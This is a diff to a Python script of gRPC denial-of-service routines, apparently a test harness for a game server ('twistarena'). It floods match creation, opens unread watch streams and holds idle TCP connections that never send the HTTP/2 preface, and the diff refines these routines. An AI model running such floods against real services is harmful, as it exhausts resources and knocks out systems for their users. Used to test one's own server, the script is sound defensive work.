@@ -21,6 +21,7 @@ from collections.abc import Awaitable, Callable
 from typing import Any
 
 from grpc import aio
+from twistarena.v1 import match_pb2, match_pb2_grpc
 from twistarena.v1 import play_pb2 as ppb
 from twistarena.v1 import play_pb2_grpc as pgrpc
 
@@ -42,7 +43,9 @@ async def create_flood(target: str, seconds: float) -> None:
     """Waiting 5-seat matches as fast as the server takes them (issue: 3,646 in 20 s)."""
     async with aio.insecure_channel(target) as ch:
         async def batch() -> None:
-            await asyncio.gather(*(create(ch, options("twhist", 5)) for _ in range(8)))
+            await asyncio.gather(*(create(ch, options("twhist", 5)) for _ in range(8)),
+                                 return_exceptions=True)
+            await asyncio.sleep(0.02)
         await _until(seconds, batch)
 
 
@@ -63,6 +66,9 @@ async def unread_watchers(target: str, seconds: float, count: int = 100) -> None
             calls.append(pgrpc.WatchStub(channels[i % len(channels)]).Watch(
                 ppb.WatchRequest(match_id=mid)))
         await asyncio.sleep(seconds)
+        with contextlib.suppress(aio.AioRpcError):  # it may be over already
+            await match_pb2_grpc.MatchesStub(channels[0]).CancelMatch(
+                match_pb2.CancelMatchRequest(match_id=mid, reason="attack over"))
     finally:
         for call in calls:
             call.cancel()
@@ -92,11 +98,15 @@ async def takeover_flood(target: str, seconds: float) -> None:
 async def idle_connections(target: str, seconds: float, count: int = 200) -> None:
     """TCP connections that never send the HTTP/2 preface."""
     host, port = target.rsplit(":", 1)
+    loop = asyncio.get_running_loop()
     socks = []
     try:
         for _ in range(count):
+            sock = socket.socket()
+            sock.setblocking(False)
+            socks.append(sock)
             with contextlib.suppress(OSError):
-                socks.append(socket.create_connection((host, int(port)), timeout=2))
+                await loop.sock_connect(sock, (host, int(port)))
         await asyncio.sleep(seconds)
     finally:
         for sock in socks:
